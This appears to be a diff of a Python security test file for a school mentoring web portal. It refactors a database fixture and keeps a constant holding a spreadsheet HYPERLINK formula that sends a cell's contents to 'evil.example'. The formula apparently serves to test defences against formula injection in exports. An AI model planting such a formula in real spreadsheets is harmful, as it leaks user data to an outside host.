@@ -20,7 +20,7 @@ from openpyxl import load_workbook
 from sqlalchemy import func
 from sqlmodel import col, select
 
-from nastavnik.demo import at_nine, demo_registry
+from nastavnik.demo import at_nine
 from registry.models import Mentee
 from storage.db import session_scope
 from storage.models import JournalEntry, School, User
@@ -32,11 +32,11 @@ from tests.web_helpers import (
     TZ,
     VIEWER,
     Portal,
-    build_portal,
+    backend_portal,
     csrf_of,
-    database_url,
     open_instance,
     signed_in,
+    with_registry,
 )
 from web.auth import hash_password
 from web.models import CalendarLink, SignInAttempt
@@ -45,18 +45,9 @@ NOW = at_nine(date(2022, 9, 15), TZ)
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Открыть")'
 
 
-@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.pg)])
-def portal(
-    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
-) -> Iterator[Portal]:
-    workdir = tmp_path_factory.mktemp(f"security-{request.param}")
-    with database_url(request.param, workdir) as url:
-        built = build_portal(workdir, url=url, now=NOW)
-        demo_registry(
-            engine=built.engine, workdir=workdir, schools=["sosh1"], steps=("mentors", "mentees")
-        )
-        yield built
-        built.engine.dispose()
+portal = backend_portal(
+    "security", now=NOW, prepare=with_registry("sosh1", steps=("mentors", "mentees"))
+)
 
 
 @pytest.fixture(scope="module")
